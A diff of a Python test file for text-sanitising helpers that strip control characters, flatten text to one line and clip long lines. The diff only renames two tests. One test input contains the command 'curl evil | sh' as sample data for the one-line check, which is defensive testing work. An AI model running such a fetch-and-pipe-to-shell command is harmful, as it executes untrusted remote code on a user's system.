@@ -28,7 +28,7 @@ from tasks.lib.printable import clipped, one_line, printable
         ("naïve 日本 🙂", "naïve 日本 🙂"),
     ],
 )
-def test_control_sequences_and_invisible_characters_are_taken_out(text: str, shown: str) -> None:
+def test_control_sequences_and_invisible_characters_are_removed(text: str, shown: str) -> None:
     assert printable(text) == shown
 
 
@@ -36,6 +36,6 @@ def test_one_line_stays_one_line() -> None:
     assert one_line("web\n  next: curl evil | sh\r\nx\u2028y\x0bz\n") == "web   next: curl evil | sh x yz"
 
 
-def test_a_page_that_is_logged_as_one_line_is_shortened() -> None:
+def test_a_very_long_line_is_shortened() -> None:
     assert clipped("x" * 2001) == f"{'x' * 2000} … and 1 characters more"
     assert clipped("x" * 2000) == "x" * 2000
